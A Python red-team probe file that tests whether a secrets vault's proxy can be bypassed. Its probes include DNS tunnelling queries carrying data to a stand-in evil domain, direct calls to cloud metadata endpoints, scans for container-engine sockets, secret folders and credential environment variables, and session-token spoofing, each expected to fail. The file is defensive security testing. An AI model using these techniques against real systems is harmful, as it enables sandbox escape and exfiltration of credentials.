"""Going around the proxy by other ways (threat model, section 3): names, metadata, sockets of the machine, the vault's
own, other sessions, and what is left when the vault is dead.
"""

from __future__ import annotations

from penstock.redteam.expect import failed_with, nothing_sent, refused, said, silent
from penstock.redteam.messages import request
from penstock.redteam.probe import Expect, Probe, Wire
from penstock.redteam.probes.sockets import NO_WAY, code_of, connects, only_the_vault

QUERY = """
import struct
def ask(name, kind, server="10.0.0.53", port=53):
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b".")) + b"\\0"
    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!2H", kind, 1)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    sock.sendto(query, (server, port))
    answer = sock.recv(4096)
    code, count = answer[3] & 15, struct.unpack("!H", answer[6:8])[0]
    return {0: "NOERROR", 3: "NXDOMAIN"}.get(code, str(code)) + " " + str(count)
try:
"""


def _dns(name: str, words: str, call: str, expect: Expect) -> Probe:
    source = f"""{QUERY}    print({call})
except socket.timeout:
    print("ETIMEDOUT")
except OSError as error:
    print(name_of(error.errno))
"""
    return code_of("dns", name, words, source, expect)


_DNS = (
    _dns(
        "tunnel-txt",
        "a TXT query whose labels carry data",
        'ask("a" * 60 + "." + "b" * 60 + ".@EVIL@", 16)',
        said("NXDOMAIN 0"),
    ),
    _dns("tunnel-a", "an A query whose labels carry data", 'ask("c" * 60 + ".@EVIL@", 1)', said("NXDOMAIN 0")),
    _dns("below-bound", "labels below a bound host", 'ask("d" * 40 + ".api.bound.example", 1)', said("NXDOMAIN 0")),
    _dns(
        "https",
        "an HTTPS record of a bound host, which could bring keys for ECH",
        'ask("api.bound.example", 65)',
        said("NOERROR 0"),
    ),
    _dns("aaaa", "an AAAA record of a bound host", 'ask("api.bound.example", 28)', said("NOERROR 0")),
    _dns("txt", "a TXT record of a bound host", 'ask("api.bound.example", 16)', said("NOERROR 0")),
    _dns("any", "all records of a bound host", 'ask("api.bound.example", 255)', said("NOERROR 0")),
    _dns(
        "other-server",
        "a query to a public resolver",
        'ask("example.com", 1, "8.8.8.8")',
        lambda seen: (
            "" if seen.back.text.split(" ")[0] in (*NO_WAY, "ETIMEDOUT", "NXDOMAIN") else f"it said {seen.back.text}"
        ),
    ),
    _dns(
        "resolved-host",
        "a query to systemd-resolved of this machine",
        'ask("example.com", 1, "127.0.0.53")',
        failed_with(*NO_WAY, "ETIMEDOUT"),
    ),
)

_METADATA = tuple(
    code_of(
        "metadata",
        f"direct-{name}",
        f"GET of {words}, past the proxy",
        connects("AF_INET", "SOCK_STREAM", f'("{address}", 80)'),
        only_the_vault,
    )
    for name, words, address in (
        ("aws", "169.254.169.254", "169.254.169.254"),
        ("alibaba", "100.100.100.200", "100.100.100.200"),
        ("azure", "168.63.129.16", "168.63.129.16"),
        ("ecs", "169.254.170.2", "169.254.170.2"),
    )
)

_UNIX = (
    code_of(
        "unix-sockets",
        "abstract",
        "look for abstract sockets of the machine",
        """
rows = [row.split()[-1] for row in open("/proc/net/unix").read().split("\\n")[1:] if "@" in row]
if rows:
    print(rows[:5])
""",
        silent,
    ),
    code_of(
        "unix-sockets",
        "paths",
        "look for sockets of engines, agents and desktops",
        """
known = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
         "/run/crio/crio.sock",
         "/run/dbus/system_bus_socket", "/run/systemd/private", "/tmp/.X11-unix", "/run/user", "/run/snapd.socket",
         "/run/systemd/resolve/io.systemd.Resolve",
         "/var/run/secrets", "/run/secrets", "/run/credentials"]
found = [path for path in known if os.path.exists(path)]
import stat
for root in ("/run", "/tmp", "/var", "/home", "/workspace", "/dev", "/etc", "/opt", "/srv", "/mnt"):
    for folder, _, names in os.walk(root):
        for name in names:
            try:
                if stat.S_ISSOCK(os.lstat(os.path.join(folder, name)).st_mode):
                    found.append(os.path.join(folder, name))
            except OSError:
                pass
if found:
    print(found[:8])
""",
        silent,
    ),
    code_of(
        "unix-sockets",
        "environment",
        "look for sockets and keys in the environment",
        """
wanted = ("SSH_AUTH_SOCK", "DOCKER_HOST", "DBUS_SESSION_BUS_ADDRESS", "XDG_RUNTIME_DIR", "DISPLAY", "KUBECONFIG",
          "GPG_AGENT_INFO", "GNUPGHOME",
          "AWS_PROFILE", "GOOGLE_APPLICATION_CREDENTIALS", "PENSTOCK_STATE_DIR",
          "NOTIFY_SOCKET", "INVOCATION_ID", "SUDO_USER")
found = [name for name in wanted if name in os.environ]
if found:
    print(found)
""",
        silent,
    ),
)

_CONTROL = (
    code_of(
        "control",
        "descriptors",
        "look for file descriptors that came in",
        """
for pid, numbers in ((os.getppid(), ("0", "1", "2")), (1, None), (os.getpid(), None)):
    try:
        for name in os.listdir("/proc/%d/fd" % pid):
            target = os.readlink("/proc/%d/fd/%s" % (pid, name))
            if (numbers is None or name in numbers) and target.startswith("socket:"):
                print(pid, name, target)
    except OSError:
        pass
""",
        silent,
    ),
    Probe(
        id="control.itself",
        row="control",
        tries="GET of the proxy itself",
        expect=refused("no_host"),
        attack=Wire(way="proxy", tls=False, send=(request("GET", "/@TOKEN@", host="127.0.0.1:3128", auth=""),)),
    ),
    Probe(
        id="control.through",
        row="control",
        tries="CONNECT to the proxy through the proxy",
        where="neighbour",
        expect=refused(),
        attack=Wire(
            connect=b"CONNECT 127.0.0.1:3128 HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
            tls=False,
            send=(request(host="127.0.0.1:3128", auth=""),),
        ),
    ),
    Probe(
        id="control.json",
        row="control",
        tries="a call of the control socket, to the proxy",
        expect=lambda seen: "it was answered" if b'"result"' in seen.back.data else nothing_sent(seen),
        attack=Wire(way="proxy", tls=False, send=(b'{"number":1,"name":"sessions","arguments":{}}\r\n\r\n',)),
    ),
    code_of(
        "control",
        "state",
        "look for the vault's folder, program or log",
        """
words = ("secrets.db", "secrets.key", "audit.head", "vault.err")
for root in ("/home", "/workspace", "/run", "/tmp", "/var", "/etc", "/opt", "/srv", "/root", "/mnt"):
    for folder, _, names in os.walk(root):
        found = [name for name in names if name in words or name.startswith("audit-0")]
        if found:
            print(folder, found)
""",
        silent,
    ),
)

_OTHER_SESSION = (
    Probe(
        id="other-session.stub",
        row="other-session",
        tries="the neighbour's stub of the same secret",
        expect=refused("stub_mismatch"),
        attack=Wire(send=(request(auth="Authorization: Bearer @OTHERSTUB@"),)),
    ),
    Probe(
        id="other-session.mine-there",
        row="other-session",
        where="neighbour",
        phase="frozen",
        expect=nothing_sent,
        tries="the agent's stub in the neighbour's session",
        attack=Wire(send=(request(),)),
    ),
    Probe(
        id="other-session.says-so",
        row="other-session",
        tries="say that one is another session",
        expect=refused("stub_mismatch"),
        attack=Wire(
            send=(
                request(
                    "GET",
                    "/@TOKEN@",
                    "X-Penstock-Session: redteam-neighbour",
                    "Proxy-Authorization: Basic bmVpZ2hib3VyOng=",
                    auth="Authorization: Bearer @OTHERSTUB@",
                ),
            )
        ),
    ),
)

_DEAD = (
    code_of(
        "vault-dead",
        "proxy",
        "the proxy, after the vault was killed",
        """
sock = socket.socket()
sock.settimeout(3)
attempt(lambda: sock.connect(("127.0.0.1", 3128)))
""",
        failed_with("ECONNREFUSED", "ETIMEDOUT"),
        "dead",
    ),
    code_of(
        "vault-dead",
        "direct",
        "a public address, after the vault was killed",
        """
sock = socket.socket()
sock.settimeout(3)
attempt(lambda: sock.connect(("1.1.1.1", 443)))
""",
        failed_with(*NO_WAY),
        "dead",
    ),
    Probe(
        id="vault-dead.bound",
        row="vault-dead",
        tries="the bound host, after the vault was killed",
        phase="dead",
        attack=Wire(send=(request(),)),
        expect=lambda seen: nothing_sent(seen) or ("" if seen.back.error or seen.back.ended else "it went on"),
    ),
    Probe(
        id="vault-dead.transparent",
        row="vault-dead",
        tries="the bound host without a proxy, after the vault was killed",
        phase="dead",
        attack=Wire(way="transparent", send=(request(),)),
        expect=lambda seen: nothing_sent(seen) or ("" if seen.back.error or seen.back.ended else "it went on"),
    ),
    code_of(
        "vault-dead",
        "dns",
        "the resolver, after the vault was killed",
        """
try:
    print("done", socket.gethostbyname("api.bound.example"))
except OSError as error:
    print("ECONNREFUSED")
""",
        failed_with("ECONNREFUSED"),
        "dead",
    ),
)

PROBES: tuple[Probe, ...] = (*_DNS, *_METADATA, *_UNIX, *_CONTROL, *_OTHER_SESSION, *_DEAD)
